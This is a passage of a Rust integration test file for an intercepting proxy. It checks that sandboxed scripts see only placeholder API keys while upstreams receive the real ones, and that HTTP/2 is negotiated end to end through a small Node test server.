r = requests.get("https://api.anthropic.com/requests", headers={"x-api-key": os.environ["ANTHROPIC_API_KEY"]}, timeout=10)
print("requests:", r.status_code, r.text.strip())
PY
"#;
    let (ok, stdout, stderr) = run_in(&env, &ws, &["--name", "an", "-g", "anthropic"], script);
    assert!(ok, "{stdout}\n{stderr}");
    assert!(!stdout.contains(REAL_ANTHROPIC), "{stdout}");
    let ph = placeholder_of(&stdout, "ANTHROPIC_API_KEY");
    assert!(
        ph.starts_with("sk-ant-api03-") && ph != REAL_ANTHROPIC,
        "{ph}"
    );
    assert!(
        stdout.contains("posted {\"model\":\"m\"}"),
        "{stdout}\n{stderr}"
    );
    assert!(
        stdout.contains("requests: 200 hello from api.anthropic.com/requests"),
        "{stdout}\n{stderr}"
    );
    let reqs = up.requests();
    for path in ["/v1/messages", "/requests"] {
        let r = reqs
            .iter()
            .find(|r| r["path"] == path)
            .unwrap_or_else(|| panic!("{path}: {reqs:#?}"));
        assert_eq!(r["headers"]["x-api-key"], REAL_ANTHROPIC, "{r}");
    }
}

/// An HTTPS upstream that offers h2 (node), logging the HTTP version of each request.
const H2_UPSTREAM_JS: &str = r#"
const http2 = require('http2'), fs = require('fs');
const [cert, key, portFile, logPath] = process.argv.slice(2);
const srv = http2.createSecureServer(
  { cert: fs.readFileSync(cert), key: fs.readFileSync(key), allowHTTP1: true },
  (req, res) => {
    fs.appendFileSync(logPath, JSON.stringify({ version: req.httpVersion, path: req.url }) + '\n');
    res.writeHead(200, { 'content-type': 'text/plain' });
    res.end('h2 upstream saw HTTP/' + req.httpVersion + '\n');
  });
srv.listen(0, '127.0.0.1', () => {
  fs.writeFileSync(portFile + '.tmp', String(srv.address().port));
  fs.renameSync(portFile + '.tmp', portFile);
});
"#;

#[test]
fn http2_is_negotiated_end_to_end() {
    let env = Env::new();
    let up = upstream(&env.dir.path().join("upstream"));
    let dir = env.dir.path().join("h2");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("h2.js"), H2_UPSTREAM_JS).unwrap();
    let mut node = Command::new("/usr/bin/node")
        .arg(dir.join("h2.js"))
        .arg(up.dir.join("leaf.pem"))
        .arg(up.dir.join("leaf.key"))
        .arg(dir.join("port"))
        .arg(dir.join("log.jsonl"))
        .stdout(Stdio::null())
        .spawn()
        .expect("node");
    let port = wait_until(Duration::from_secs(15), || {
        std::fs::read_to_string(dir.join("port"))
            .ok()
            .and_then(|p| p.trim().parse::<u16>().ok())
    });
    let Some(port) = port else {
        let _ = node.kill();
        panic!("the node h2 upstream did not start");
    };
    write_config(&env, &up, &[("h2.example.com", port)]);
    let ws = workspace(&env);
    // Through interception both ways (explicit proxy, then captured transparently); the
    // Python upstream offers only HTTP/1.1, so that leg falls back while the client's stays 2.
    let script = r#"
curl -sS -m 10 --http2 -o /tmp/b -w 'client=%{http_version}\n' https://h2.example.com/explicit; cat /tmp/b
curl -sS -m 10 --http2 --noproxy '*' -o /tmp/b -w 'client=%{http_version}\n' https://h2.example.com/transparent; cat /tmp/b
curl -sS -m 10 --http2 -o /tmp/b -w 'client=%{http_version}\n' https://api.github.com/h1; cat /tmp/b
"#;
    let (ok, stdout, stderr) = run_in(&env, &ws, &["--name", "h2"], script);
    let _ = node.kill();
    let _ = node.wait();
    assert!(ok, "{stdout}\n{stderr}");
    assert_eq!(
        stdout.matches("client=2\n").count(),
        3,
        "{stdout}\n{stderr}"
    );
    assert_eq!(
        stdout.matches("h2 upstream saw HTTP/2.0").count(),
        2,
        "{stdout}\n{stderr}"
    );
    assert!(stdout.contains("hello from api.github.com/h1"), "{stdout}");
    let log = std::fs::read_to_string(dir.join("log.jsonl")).unwrap();
    assert_eq!(log.matches("\"version\":\"2.0\"").count(), 2, "{log}");
    let reqs = up.requests();
    assert!(
        reqs.iter()
            .any(|r| r["path"] == "/h1" && r["version"] == "HTTP/1.1"),
        "{reqs:#?}"
    );
}
